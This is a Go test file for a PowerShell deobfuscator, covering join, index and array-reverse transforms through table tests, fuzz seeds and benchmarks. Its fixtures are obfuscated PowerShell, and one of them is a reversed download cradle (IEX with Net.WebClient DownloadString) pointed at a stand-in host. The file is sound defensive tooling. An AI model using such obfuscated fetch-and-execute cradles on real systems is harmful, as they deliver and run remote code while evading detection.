package deobfuscate

import "testing"

func TestPSJoin(t *testing.T) {
	runTransformTable(t, PSJoin, []transformCase{
		{"redundant grouping parens", `-join (('w','h','o'))`, `'who'`, true},
		{"a list of lists is left alone", `-join (('w','h'),('o'))`, `-join (('w','h'),('o'))`, false},
		{"unary", `-join ('Ne','w-','Object')`, `'New-Object'`, true},
		{"unary, no space, @()", `-JOIN@('i','ex')`, `'iex'`, true},
		{"binary with separator", `('a','b','c') -join '-'`, `'a-b-c'`, true},
		{"string join", `[String]::Join('', ('Down','load'))`, `'Download'`, true},
		{"string join params", `[string]::join('',"i","ex")`, `'iex'`, true},
		{"string cast uses $OFS", `[string]('H','i')`, `'H i'`, true},
		{"string cast with empty $OFS", `$ofs='';[string]('H','i')`, `$ofs='';'Hi'`, true},
		{"index binds tighter than unary join", `-join ('abc')[-1..-3]`, `-join ('abc')[-1..-3]`, false},
		{"variable list", `-join $x`, `-join $x`, false},
		{"binary after a value", `$a -join ('x','y')`, `$a -join ('x','y')`, false},
	})
}

func TestPSIndex(t *testing.T) {
	runTransformTable(t, PSIndex, []transformCase{
		{"reverse range", `-join ('cba')[-1..-3]`, `-join ('a','b','c')`, true},
		{"list", `'abcd'[3,0]`, `('d','a')`, true},
		{"single index", `"xyz"[1]`, `'y'`, true},
		{"out of range single", `'ab'[5]`, `'ab'[5]`, false},
		{"range bomb refused", `'a'[0..9999999]`, `'a'[0..9999999]`, false},
		{"variable index", `'abc'[$i]`, `'abc'[$i]`, false},
	})
}

func TestPSArrayReverse(t *testing.T) {
	runTransformTable(t, PSArrayReverse, []transformCase{
		{"ToCharArray", `$x = ')a/x//:ptth(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN(XEI'.ToCharArray(); [array]::Reverse($x); iex (-join $x)`,
			`iex ('IEX(New-Object Net.WebClient).DownloadString(http://x/a)')`, true},
		{"char array cast and $x -join", "$r=[char[]]\"cba\"\n[Array]::Reverse($r)\n$r -join ''", "'abc'", true},
		{"different variable", `$x='ab'.ToCharArray();[array]::Reverse($y);-join $x`, `$x='ab'.ToCharArray();[array]::Reverse($y);-join $x`, false},
	})
}

func FuzzPSJoin(f *testing.F) {
	fuzzTransform(f, PSJoin, `-join ('a','b')`, `('a')-join''`, `[string]::join('',('a'))`)
}
func FuzzPSIndex(f *testing.F) { fuzzTransform(f, PSIndex, `('abc')[-1..-3]`, `'a'[0,1,2]`) }
func FuzzPSArrayReverse(f *testing.F) {
	fuzzTransform(f, PSArrayReverse, `$x='ab'.ToCharArray();[array]::Reverse($x);-join $x`)
}

func BenchmarkPSJoin(b *testing.B) {
	benchTransform(b, PSJoin, `&(-join ('i','e','x')) ([string]::Join('', ('Write-','Host hi')))`)
}
func BenchmarkPSIndex(b *testing.B) {
	benchTransform(b, PSIndex, `iex (-join ('tneilCbeW.teN tcejbO-weN')[-1..-23])`)
}
func BenchmarkPSArrayReverse(b *testing.B) {
	benchTransform(b, PSArrayReverse, `$x = 'imaohw'.ToCharArray(); [array]::Reverse($x); iex (-join $x)`)
}
